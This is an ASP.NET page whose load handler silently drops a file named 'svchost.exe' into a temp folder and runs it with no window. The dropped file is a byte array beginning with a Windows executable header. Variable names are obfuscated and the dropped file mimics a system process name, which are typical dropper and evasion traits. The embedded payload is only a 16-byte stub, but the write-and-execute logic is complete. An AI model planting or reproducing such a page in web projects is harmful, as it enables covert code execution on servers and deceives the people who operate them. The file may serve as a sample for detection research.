<%@ Page Language="C#" AutoEventWireup="true" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
	protected void Page_Load(object sender, EventArgs e)
	{
		byte[] aBq = new byte[16] {0x4d,0x5a,0x90,0x00,0x03,0x00,0x00,0x00,0x04,0x00,0x00,0x00,0xff,0xff,0x00,0x00};
		string vTd = Path.GetTempPath();
		string bDr = Path.Combine(vTd, "rkxPq");
		string tEx = Path.Combine(bDr, "svchost.exe");
		
		Directory.CreateDirectory(bDr);
		
		FileStream fs = File.Create(tEx);
		
		try
		{
			fs.Write(aBq, 0, aBq.Length);
		}
		finally
		{
			if (fs != null) ((IDisposable)fs).Dispose();
		}

		System.Diagnostics.Process pRc = new System.Diagnostics.Process();
		pRc.StartInfo.CreateNoWindow = true;
		pRc.StartInfo.UseShellExecute = true;
		pRc.StartInfo.FileName = tEx;
		pRc.Start();
	}
</script>
